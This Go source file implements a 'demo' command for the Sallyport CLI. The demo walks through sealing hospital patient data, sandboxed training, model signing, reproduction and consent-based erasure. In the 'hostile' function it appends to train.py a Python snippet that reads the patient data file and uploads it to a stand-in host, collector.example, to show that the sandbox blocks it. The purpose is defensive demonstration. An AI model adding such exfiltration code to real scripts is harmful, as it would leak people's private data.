package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"github.com/spf13/cobra"

	"github.com/sallyport/sallyport"
	"github.com/sallyport/sallyport/examples"
	"github.com/sallyport/sallyport/internal/sandbox"
)

func (a *app) demoCommand() *cobra.Command {
	var keep string
	c := &cobra.Command{
		Use:   "demo",
		Short: "See the whole of it on real data, step by step",
		Long: `Do the main job from its beginning to its end on real data: 4,999 hospital
encounters of 4,259 patients (UCI, CC BY 4.0). The real commands run one after
another in a scratch folder, with an identity and a site of their own; nothing
else of yours is touched. It needs git, Python 3.11 or newer, and the package
index, once, for scikit-learn.`,
		Example: `  sallyport demo
  sallyport demo --keep here        # keep the folder to look around in`,
		Args: cobra.NoArgs,
		RunE: func(c *cobra.Command, _ []string) error { return a.demo(c.Context(), keep) },
	}
	c.Flags().StringVar(&keep, "keep", "", "work in this `folder`, which must not exist, and keep it")
	return c
}

// A demo is the stage on which the commands are shown.
type demo struct {
	*app
	ctx  context.Context
	self string // this binary
	dir  string // the scratch folder
	work string // the project in it
}

// steps is the play: what is said, and the commands it stands for.
var steps = []struct {
	say  string
	prep func(*demo) error
	run  []string
}{
	{say: "A project is a git repository with a sallyport.yaml. This one predicts whether\n" +
		"a patient will be back in hospital.",
		prep: (*demo).project, run: []string{"cat sallyport.yaml"}},
	{say: "A site holds keys, sealed data and the ledger. You hold every role for now.",
		run: []string{"sallyport init --name demo --as you"}},
	{say: "The steward hands over the data. Each patient's records are sealed under keys of\n" +
		"their own; the plaintext can go.",
		run: []string{"sallyport data add encounters encounters.csv --subject patient_nbr", "rm encounters.csv",
			"sallyport data show encounters"}},
	{say: "Bring in what is known about packages: here a few real advisories of 2024, taken\n" +
		"for all of today's. Then look at those that the project is locked to.",
		run: []string{"sallyport deps update --from ../advisories --as-of today", "sallyport deps", "sallyport deps tree --why scipy"}},
	{say: "Rehearse on a tenth of the patients, then on a quarter. The environment is built\n" +
		"once, from the hashes in the lock. Inside there is no network, and code and data\n" +
		"are read-only.",
		run: []string{"sallyport run --sample 10%", "sallyport run --sample 25% --quiet"}},
	{say: "Now on all of them.",
		run: []string{"sallyport run", "sallyport runs show last"}},
	{say: "What if the code is hostile? We add a line that sends data away, and rehearse.",
		prep: (*demo).hostile, run: []string{"git diff --stat", "sallyport run train --sample 10% --quiet",
			"git checkout --quiet train.py"}},
	{say: "Take the model out, with its signature, its provenance and the proof that both are\n" +
		"in the ledger. Anybody can check it, offline, with the site's public keys.",
		run: []string{"sallyport runs get @full model -o model", "sallyport log export -o ledger",
			"sallyport verify model --trust ledger/trust.json"}},
	{say: "Was it really made that way? Build it again from the record alone and compare.",
		run: []string{"sallyport reproduce @full --quiet"}},
	{say: "A patient withdraws her consent. What has learned from her?",
		run: []string{"sallyport erase --subject 362610 --plan"}},
	{say: "Take her out: of every version, of everything that was made of them, of the models.\n" +
		"Each is made again by its own recipe, and the old ones are revoked.",
		run: []string{"sallyport erase --subject 362610 --ground art17.1.b --identity-checked passport --quiet",
			"sallyport erasures show last -o erasure"}},
	{say: "The model that we had taken out does not verify any more. Her certificate does.",
		run: []string{"sallyport log export -o ledger2", "! sallyport verify model --trust ledger2/trust.json",
			"sallyport verify erasure/certificate.json --trust ledger2/trust.json"}},
	{say: "Months later something becomes known about a package (made up here). Which models\n" +
		"were made with it, and who sees to it until when?",
		run: []string{"sallyport deps update --from ../advisories --from ../advisories-later --as-of today", "sallyport incidents show i1",
			"sallyport incidents close i1 --note made-up"}},
	{say: "Everything that happened, proven from the first entry to the last.",
		run: []string{"sallyport log ls --last 8", "sallyport log verify"}},
}

func (a *app) demo(ctx context.Context, keep string) (err error) {
	if err := sandbox.Preflight(); err != nil {
		return err
	}
	d := &demo{app: a, ctx: ctx}
	if d.self, err = os.Executable(); err != nil {
		return err
	}
	if err := d.folder(keep); err != nil {
		return err
	}
	if keep == "" {
		defer func() { err = errors.Join(err, removeAll(d.dir)) }()
	}
	a.print("The main job of Sallyport, in %d steps, in %s\n", len(steps), d.dir)
	var full string
	for i, s := range steps {
		a.print("\n%s\n%d. %s\n\n", strings.Repeat("─", width), i+1, s.say)
		if s.prep != nil {
			if err := s.prep(d); err != nil {
				return err
			}
		}
		for _, line := range s.run {
			out, err := d.command(strings.ReplaceAll(line, "@full", full))
			if err != nil {
				return err
			}
			if line == "sallyport run" {
				full = runID(out)
			}
		}
	}
	d.farewell(keep, full)
	return nil
}

// folder makes the scratch folder.
func (d *demo) folder(keep string) (err error) {
	if keep == "" {
		d.dir, err = os.MkdirTemp("", "sallyport-demo-*")
	} else if d.dir, err = filepath.Abs(keep); err == nil {
		err = os.Mkdir(d.dir, 0o755)
	}
	if err != nil {
		return sallyport.Errorf(sallyport.Usage, "cannot make the scratch folder: %w", err).
			Try("name one that does not exist, with --keep")
	}
	d.work = filepath.Join(d.dir, "readmission")
	return nil
}

// project lays the example out and commits it.
func (d *demo) project() error {
	src, err := fs.Sub(examples.Files, "readmission")
	if err != nil {
		return err
	}
	if err := os.CopyFS(d.work, src); err != nil {
		return err
	}
	for _, name := range []string{"advisories", "advisories-later"} {
		if src, err = fs.Sub(examples.Files, name); err != nil {
			return err
		}
		if err := os.CopyFS(filepath.Join(d.dir, name), src); err != nil {
			return err
		}
	}
	packed := filepath.Join(d.work, "encounters.csv.gz")
	if err := gunzip(packed, filepath.Join(d.work, "encounters.csv")); err != nil {
		return err
	}
	if err := os.Remove(packed); err != nil {
		return err
	}
	for _, args := range [][]string{
		{"init", "--quiet", "--initial-branch=main"},
		{"add", "."}, {"reset", "--quiet", "--", "encounters.csv"},
		{"-c", "user.name=You", "-c", "user.email=you@example.org", "commit", "--quiet", "-m", "Predict readmission"},
	} {
		c := exec.CommandContext(d.ctx, "git", args...)
		c.Dir = d.work
		if out, err := c.CombinedOutput(); err != nil {
			return sallyport.Errorf(sallyport.Usage, "git %s: %w", args[0], err).At("%s", bytes.TrimSpace(out)).
				Try("install git 2.28 or newer")
		}
	}
	return nil
}

// hostile adds to train.py what nobody should be able to do.
func (d *demo) hostile() error {
	path := filepath.Join(d.work, "train.py")
	text, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	const evil = `
try:
    import urllib.request
    stolen = open("data/encounters.csv", "rb").read()
    urllib.request.urlopen("http://collector.example/upload", stolen, timeout=5)
except OSError:
    pass
`
	return os.WriteFile(path, append(text, evil...), 0o644)
}

// command shows and runs one command line, and returns what it printed. One that
// begins with "! " is to fail.
func (d *demo) command(line string) (string, error) {
	line, fails := strings.CutPrefix(line, "! ")
	d.print("$ %s\n", line)
	args := strings.Fields(line)
	if args[0] == "sallyport" {
		args[0] = d.self
	}
	var out bytes.Buffer
	c := exec.CommandContext(d.ctx, args[0], args[1:]...)
	c.Dir = d.work
	c.Env = append(os.Environ(), "SALLYPORT_HOME="+filepath.Join(d.dir, "home"),
		"SALLYPORT_SITE=", "SALLYPORT_IDENTITY=", "GIT_PAGER=cat")
	c.Stdout = io.MultiWriter(&out, d.out)
	c.Stderr = d.err
	c.Cancel = func() error { return c.Process.Signal(os.Interrupt) }
	err := c.Run()
	if _, exited := errors.AsType[*exec.ExitError](err); fails && exited {
		err = nil
	} else if fails && err == nil {
		err = errors.New("it should have failed")
	}
	if err != nil {
		return "", sallyport.Errorf(sallyport.Internal, "the demo stopped here: %w", err).At("%s", line).
			Try("look at the message above; sallyport demo --keep DIR keeps the folder")
	}
	d.print("\n")
	return out.String(), nil
}

// runID finds the name of the run in what "sallyport run" printed.
func runID(out string) string {
	_, rest, _ := strings.Cut(out, "run ")
	id, _, _ := strings.Cut(rest, " ")
	return id
}

func (d *demo) farewell(keep, full string) {
	d.print("%s\nThat was the main job: data in, a signed and reproducible model out.\n\n", strings.Repeat("─", width))
	if keep == "" {
		d.print("The scratch folder is gone. Keep it next time with: sallyport demo --keep DIR\n")
		return
	}
	d.print(`What was made, in %s:
  readmission/model     the model, ready for ONNX Runtime, signed
  readmission/ledger    the ledger, and trust.json with the keys to trust
  readmission/.sallyport  the site; home/you.id is its identity

Try next:
  export SALLYPORT_HOME=%s
  cd %s
  sallyport run --set model.max_depth=2
  sallyport runs diff %s last
`, d.dir, filepath.Join(d.dir, "home"), d.work, full)
}

func gunzip(from, to string) error {
	f, err := os.Open(from)
	if err != nil {
		return err
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		return fmt.Errorf("%s: %w", from, err)
	}
	w, err := os.OpenFile(to, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
	if err != nil {
		return err
	}
	_, err = io.Copy(w, z)
	return errors.Join(err, w.Close())
}

// removeAll removes a folder whose environments are read-only.
func removeAll(dir string) error {
	_ = filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err == nil && e.IsDir() {
			_ = os.Chmod(p, 0o700)
		}
		return nil
	})
	return os.RemoveAll(dir)
}
